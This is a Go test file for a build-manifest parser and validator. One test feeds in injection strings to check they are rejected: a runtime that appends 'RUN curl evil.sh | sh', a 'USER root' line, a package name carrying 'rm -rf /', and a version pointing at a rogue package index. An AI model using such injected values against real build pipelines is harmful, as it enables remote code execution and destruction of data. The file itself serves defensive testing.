package manifest

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// =============================================================================
// Parse Tests
// =============================================================================

const validManifest = `
name: chat-backend
runtime: python:3.11-slim
packages:
  - name: fastapi
    version: 0.115.0
  - name: uvicorn
    version: 0.30.6
  - name: httpx
    version: 0.27.2
entrypoint: main.py
port: 8080
workers: 1
env:
  OLLAMA_URL: http://localhost:11434
`

func TestParse_Valid(t *testing.T) {
	m, err := Parse(validManifest)
	require.NoError(t, err)

	assert.Equal(t, "chat-backend", m.Name)
	assert.Equal(t, "python:3.11-slim", m.Runtime)
	assert.Equal(t, InstallerPip, m.Installer)
	assert.Len(t, m.Packages, 3)
	assert.Equal(t, "main.py", m.Entrypoint)
	assert.Equal(t, 8080, m.Port)
	assert.Equal(t, 1, m.Workers)
	assert.Equal(t, "http://localhost:11434", m.Env["OLLAMA_URL"])
}

func TestParse_Defaults(t *testing.T) {
	m, err := Parse("runtime: python:3.11-slim\nentrypoint: main.py\n")
	require.NoError(t, err)

	assert.Equal(t, DefaultPort, m.Port)
	assert.Equal(t, DefaultWorkers, m.Workers)
	assert.Equal(t, InstallerPip, m.Installer)
	assert.Empty(t, m.Packages)
}

func TestParse_EmptyInput(t *testing.T) {
	_, err := Parse("  \n\t")
	assert.ErrorIs(t, err, ErrEmptyInput)
}

func TestParse_InvalidYAML(t *testing.T) {
	_, err := Parse("runtime: [unclosed")
	assert.ErrorIs(t, err, ErrInvalidYAML)
}

func TestParse_Validation(t *testing.T) {
	tests := []struct {
		name    string
		yaml    string
		wantErr error
	}{
		{
			"missing runtime",
			"entrypoint: main.py\n",
			ErrRuntimeRequired,
		},
		{
			"missing entrypoint",
			"runtime: python:3.11-slim\n",
			ErrEntrypointRequired,
		},
		{
			"unknown installer",
			"runtime: x\nentrypoint: main.py\ninstaller: cargo\n",
			ErrUnknownInstaller,
		},
		{
			"port out of range",
			"runtime: x\nentrypoint: main.py\nport: 70000\n",
			ErrInvalidPort,
		},
		{
			"negative workers",
			"runtime: x\nentrypoint: main.py\nworkers: -1\n",
			ErrInvalidWorkers,
		},
		{
			"unpinned package",
			"runtime: x\nentrypoint: main.py\npackages:\n  - name: fastapi\n",
			ErrPackageUnpinned,
		},
		{
			"unnamed package",
			"runtime: x\nentrypoint: main.py\npackages:\n  - version: 1.0.0\n",
			ErrPackageName,
		},
		{
			"duplicate package",
			"runtime: x\nentrypoint: main.py\npackages:\n  - name: a\n    version: \"1\"\n  - name: a\n    version: \"2\"\n",
			ErrPackageDuplicate,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse(tt.yaml)
			assert.ErrorIs(t, err, tt.wantErr)
		})
	}
}

// Fields that end up in build file lines must not carry whitespace, or a
// crafted manifest could append its own instructions.
func TestValidate_RejectsEmbeddedWhitespace(t *testing.T) {
	tests := []struct {
		name string
		m    Manifest
	}{
		{
			"runtime with newline",
			Manifest{Runtime: "python:3.11-slim\nRUN curl evil.sh | sh", Entrypoint: "main.py"},
		},
		{
			"runtime with space",
			Manifest{Runtime: "python:3.11-slim AS stage", Entrypoint: "main.py"},
		},
		{
			"entrypoint with newline",
			Manifest{Runtime: "python:3.11-slim", Entrypoint: "main.py /etc\nUSER root"},
		},
		{
			"package name with shell metatext",
			Manifest{
				Runtime:    "python:3.11-slim",
				Entrypoint: "main.py",
				Packages:   []Package{{Name: "fastapi; rm -rf /", Version: "0.115.0"}},
			},
		},
		{
			"package version with space",
			Manifest{
				Runtime:    "python:3.11-slim",
				Entrypoint: "main.py",
				Packages:   []Package{{Name: "fastapi", Version: "0.115.0 --index-url http://evil"}},
			},
		},
		{
			"env key with newline",
			Manifest{
				Runtime:    "python:3.11-slim",
				Entrypoint: "main.py",
				Env:        map[string]string{"A\nUSER root": "x"},
			},
		},
		{
			"env key with equals",
			Manifest{
				Runtime:    "python:3.11-slim",
				Entrypoint: "main.py",
				Env:        map[string]string{"A=B": "x"},
			},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := tt.m
			applyDefaults(&m)
			err := Validate(&m)
			assert.ErrorIs(t, err, ErrUnsafeValue)
		})
	}
}

// Env values are quoted by the renderer, so whitespace in values stays legal.
func TestValidate_AllowsWhitespaceInEnvValues(t *testing.T) {
	m := Manifest{
		Runtime:    "python:3.11-slim",
		Entrypoint: "main.py",
		Env:        map[string]string{"GREETING": "hello there"},
	}
	applyDefaults(&m)
	assert.NoError(t, Validate(&m))
}
